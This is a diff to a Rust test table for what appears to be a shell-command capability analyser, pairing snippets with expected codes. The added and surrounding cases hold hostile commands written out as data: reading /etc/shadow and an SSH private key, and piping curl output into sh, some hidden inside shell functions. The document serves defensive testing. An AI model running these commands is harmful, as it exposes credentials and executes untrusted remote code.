@@ -492,6 +492,12 @@ const CASES: &[(&str, &str)] = &[
     ("cd /etc && cat shadow", "4004"),
     // A part-known path naming a credential is held by nothing but its bit.
     ("read d; mytool \"$d/.ssh/id_rsa\"", "4004"),
+    // A function only a command whose name is not static can call: what it does is possible,
+    // except what nothing but its bit holds (running fetched code).
+    ("f() { cat /etc/shadow; }; read c; \"$c\"", "0005"),
+    ("f() { g; }; g() { cat /etc/shadow; }; read c; $c", "0005"),
+    ("f() { curl https://x | sh; }; read c; $c", "0055"),
+    ("f() { cat /etc/shadow; }; f", "4000"),
     // --- the runtime baseline: what every program reads and runs in every mode ---------------
     ("cat /etc/passwd /etc/hosts /etc/os-release", "0004"),
     // The loader runs what it is given: an interpreter, wherever it is named from.
